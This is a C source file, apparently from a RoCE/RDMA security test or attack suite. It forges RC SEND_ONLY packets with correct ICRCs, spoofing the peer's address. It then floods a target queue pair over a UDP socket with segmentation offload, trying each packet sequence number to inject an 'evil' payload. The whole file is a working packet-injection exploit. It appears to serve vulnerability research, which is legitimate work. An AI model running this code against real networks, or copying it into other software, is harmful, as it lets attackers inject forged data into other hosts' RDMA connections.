/*
 * Sends SENDs to a queue pair with each PSN that it may expect by a plain UDP socket of this host,
 * from the address of the queue pair's peer (issue: a queue pair whose peer is a process of this
 * host took them).
 *
 * usage: forged-datagrams SECONDS FROM TO QP PSN
 */
#include "roce.h"

#include <netinet/udp.h>

#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif

/* Datagrams that the kernel cuts out of one call; bytes of one: BTH, payload, ICRC. */
enum { DATAGRAMS = 60, PACKET = BTH + 4, DATAGRAM = PACKET + ICRC, RC_SEND_ONLY = 4 };

static uint32_t crc_of(uint32_t crc, const unsigned char *bytes, size_t length)
{
	while (length-- > 0)
		crc = crc >> 8 ^ crc_table[(crc ^ *bytes++) & 0xff];
	return crc;
}

/*
 * The ICRC of what is before the packets, which is the same for all: the receiver finds out the
 * Identification (`proto::wire::icrc`).
 */
static uint32_t begin_crc(const struct sender *sender)
{
	unsigned char head[8 + IP_UDP], *ip = head + 8;

	memset(head, 0xff, sizeof head);
	put(ip, 0x45, 1);
	put(ip + 2, IP_UDP + DATAGRAM, 2);
	put(ip + 4, 0x4000, 4);
	put(ip + 9, IPPROTO_UDP, 1);
	memcpy(ip + 12, &sender->from.sin_addr, 4);
	memcpy(ip + 16, &sender->to.sin_addr, 4);
	memcpy(ip + 20, &sender->from.sin_port, 2);
	put(ip + 22, ROCE_PORT, 2);
	put(ip + 24, 8 + DATAGRAM, 2);
	return crc_of(0xffffffffu, head, sizeof head);
}

/* The packet in `sender`, with the PSN. */
static void put_datagram(struct sender *sender, unsigned char *to, uint32_t before, uint32_t psn)
{
	unsigned char *packet = transport(sender);
	uint32_t crc;

	put(packet + 8, psn & 0xffffff, 4);
	packet[4] = 0xff;
	crc = ~crc_of(before, packet, PACKET);
	packet[4] = 0;
	memcpy(to, packet, PACKET);
	for (int i = 0; i < ICRC; i++)
		to[PACKET + i] = (unsigned char)(crc >> 8 * i);
}

int main(int argc, char **argv)
{
	static struct sender sender;
	unsigned char datagrams[DATAGRAMS * DATAGRAM];
	int segment = DATAGRAM;
	uint32_t first, n = 0, before;

	if (argc != 6)
		return 2;
	begin_attack(argv[1]);
	open_sender(&sender, argv[2], argv[3]);
	MUST(setsockopt(sender.fd, IPPROTO_UDP, UDP_SEGMENT, &segment, sizeof segment));
	put_bth(&sender, RC_SEND_ONLY, (uint32_t)number(argv[4], 1, 0xffffff), 0);
	memcpy(transport(&sender) + BTH, "evil", 4);
	before = begin_crc(&sender);
	first = (uint32_t)number(argv[5], 0, 0xffffff);
	while (goes_on()) {
		for (int i = 0; i < DATAGRAMS; i++)
			put_datagram(&sender, datagrams + i * DATAGRAM, before, tried_psn(first, n + (uint32_t)i));
		if (sendto(sender.fd, datagrams, sizeof datagrams, 0, (struct sockaddr *)&sender.to, sizeof sender.to) > 0) {
			attack.injected += DATAGRAMS;
			n += DATAGRAMS;
		}
	}
	tell();
	return 0;
}
